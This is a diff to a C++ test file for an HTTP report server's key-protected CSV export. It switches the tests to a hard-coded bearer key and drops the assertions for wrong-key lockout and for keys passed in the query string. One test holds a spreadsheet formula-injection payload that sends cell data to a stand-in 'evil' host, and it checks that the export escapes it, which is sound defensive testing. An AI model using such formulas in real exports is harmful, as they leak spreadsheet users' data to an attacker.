@@ -12,6 +12,14 @@ namespace {
 
 using namespace std::chrono_literals;
 
+const std::string kOperatorKey = "Zq3-uN8_wR5tY1pL6mK0vB9cX2jH4gF7";
+
+// A request for the export with the operator key.
+std::string Export(unsigned short port, const std::string& target)
+{
+    return Get(port, target, "Authorization: Bearer " + kOperatorKey + "\r\n");
+}
+
 // A MAC no other test (or earlier run on the same PostgreSQL database) uses.
 std::string UniqueMac()
 {
@@ -56,7 +64,7 @@ class ServerTest : public ::testing::TestWithParam<std::string> {
                 GTEST_SKIP() << "VXM_TEST_POSTGRES_URL is not set";
             database_ = url;
         }
-        options_.operatorKey = "k3y";
+        options_.operatorKey = kOperatorKey;
         options_.requestDeadline = 500ms;
         options_.maxConnections = 96;
         options_.maxPerAddress = 96; // every client here is 127.0.0.1
@@ -252,18 +260,11 @@ TEST_P(ServerTest, ExportNeedsTheOperatorKey)
     ASSERT_EQ(RetCode(Post(SampleForm("123456", mac_))), 0);
     const unsigned short port = server_->Port();
     EXPECT_EQ(Get(port, "/export.csv").rfind("HTTP/1.0 401", 0), 0u);
-    EXPECT_EQ(Get(port, "/export.csv?key=k3").rfind("HTTP/1.0 401", 0), 0u);
-    // After a wrong key the address waits a second, whatever it sends meanwhile.
-    const std::string waiting = Get(port, "/export.csv?key=k3y");
-    EXPECT_EQ(waiting.rfind("HTTP/1.0 429", 0), 0u) << waiting;
-    EXPECT_NE(waiting.find("Retry-After: 1"), std::string::npos);
-    std::this_thread::sleep_for(1100ms);
-    const std::string byQuery = Get(port, "/export.csv?key=k3y");
     // The scheme in any case.
-    const std::string byHeader = Get(port, "/export.csv", "Authorization: bearer k3y\r\n");
-    EXPECT_EQ(BodyOf(byQuery), BodyOf(byHeader));
-    const std::string csv = BodyOf(byQuery);
-    EXPECT_NE(byQuery.find("Content-Type: text/csv; charset=utf-8"), std::string::npos);
+    const std::string byHeader =
+        Get(port, "/export.csv", "Authorization: bearer " + kOperatorKey + "\r\n");
+    const std::string csv = BodyOf(byHeader);
+    EXPECT_NE(byHeader.find("Content-Type: text/csv; charset=utf-8"), std::string::npos);
     EXPECT_EQ(csv.rfind("\xEF\xBB\xBFid,received,peer,u,mc,cpu,", 0), 0u);
     // The GBK host name arrives as UTF-8; the processor name with its comma is quoted.
     const auto line = csv.find("," + mac_ + ",");
@@ -293,8 +294,8 @@ TEST_P(ServerTest, ExportIsSafeForSpreadsheetsRawForProgramsAndIncremental)
     ASSERT_EQ(RetCode(Post(EncodeReportForm(values))), 0);
     ASSERT_EQ(RetCode(Post(SampleForm("135791", mac_))), 0);
     const unsigned short port = server_->Port();
-    const std::string safe = BodyOf(Get(port, "/export.csv?key=k3y"));
-    const std::string raw = BodyOf(Get(port, "/export.csv?key=k3y&raw=1"));
+    const std::string safe = BodyOf(Export(port, "/export.csv"));
+    const std::string raw = BodyOf(Export(port, "/export.csv?raw=1"));
     EXPECT_NE(safe.find(",\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\","),
               std::string::npos);
     EXPECT_EQ(raw.rfind("id,received,peer,", 0), 0u);
@@ -306,13 +307,13 @@ TEST_P(ServerTest, ExportIsSafeForSpreadsheetsRawForProgramsAndIncremental)
     ASSERT_GT(first, 0) << raw;
     ASSERT_GT(second, first);
     const std::string later =
-        BodyOf(Get(port, "/export.csv?key=k3y&raw=1&after=" + std::to_string(first)));
+        BodyOf(Export(port, "/export.csv?raw=1&after=" + std::to_string(first)));
     EXPECT_EQ(later.find(",246810,"), std::string::npos);
     EXPECT_EQ(IdOfLineWith(later, ",135791," + mac_ + ","), second);
     const std::string none =
-        BodyOf(Get(port, "/export.csv?key=k3y&raw=1&after=" + std::to_string(second)));
+        BodyOf(Export(port, "/export.csv?raw=1&after=" + std::to_string(second)));
     EXPECT_EQ(none.find(mac_), std::string::npos);
-    EXPECT_EQ(Get(port, "/export.csv?key=k3y&after=x").rfind("HTTP/1.0 400", 0), 0u);
+    EXPECT_EQ(Export(port, "/export.csv?after=x").rfind("HTTP/1.0 400", 0), 0u);
 }
 
 TEST_P(ServerTest, HealthMetricsAndOneLogLinePerRequest)
@@ -328,7 +329,7 @@ TEST_P(ServerTest, HealthMetricsAndOneLogLinePerRequest)
     EXPECT_EQ(RetCode(Post(SampleForm("123456", mac_))), -1);
     EXPECT_EQ(RetCode(Post(EncodeReportForm(forged))), -2);
     EXPECT_EQ(RetCode(Post("u=1")), -3);
-    EXPECT_EQ(Get(port, "/export.csv?key=k3y&raw=1").rfind("HTTP/1.0 200", 0), 0u);
+    EXPECT_EQ(Export(port, "/export.csv?raw=1").rfind("HTTP/1.0 200", 0), 0u);
     EXPECT_EQ(Get(port, "/nothing").rfind("HTTP/1.0 404", 0), 0u);
 
     const std::string metrics = Get(port, "/metrics");
@@ -368,8 +369,8 @@ TEST_P(ServerTest, HealthMetricsAndOneLogLinePerRequest)
             << lines[i];
         EXPECT_NE(lines[i].find(" us="), std::string::npos) << lines[i];
         // Nothing private: no account, MAC, name, key or query.
-        for (const std::string& secret : {std::string("123456"), mac_, std::string("PC-01"),
-                                          std::string("k3y"), std::string("?")})
+        for (const std::string& secret :
+             {std::string("123456"), mac_, std::string("PC-01"), kOperatorKey, std::string("?")})
             EXPECT_EQ(lines[i].find(secret), std::string::npos) << secret << " in " << lines[i];
     }
 }
@@ -392,13 +393,13 @@ class DownStore : public ReportStore {
 TEST(ServerWithoutStore, HealthSaysUnavailableAndEveryFailureIsCounted)
 {
     ServerOptions options;
-    options.operatorKey = "k3y";
+    options.operatorKey = kOperatorKey;
     RunningServer server([] { return std::make_unique<DownStore>(); }, options);
     const unsigned short port = server.Port();
     const std::string health = Get(port, "/healthz");
     EXPECT_EQ(health.rfind("HTTP/1.0 503", 0), 0u) << health;
     EXPECT_EQ(Get(port, "/").rfind("HTTP/1.0 500", 0), 0u);
-    EXPECT_EQ(Get(port, "/export.csv?key=k3y").rfind("HTTP/1.0 500", 0), 0u);
+    EXPECT_EQ(Export(port, "/export.csv").rfind("HTTP/1.0 500", 0), 0u);
     const std::string post = Exchange(port, PostRequest(SampleForm(), port)).bytes;
     EXPECT_EQ(post.rfind("HTTP/1.0 500", 0), 0u) << post;
     const std::string metrics = Get(port, "/metrics");
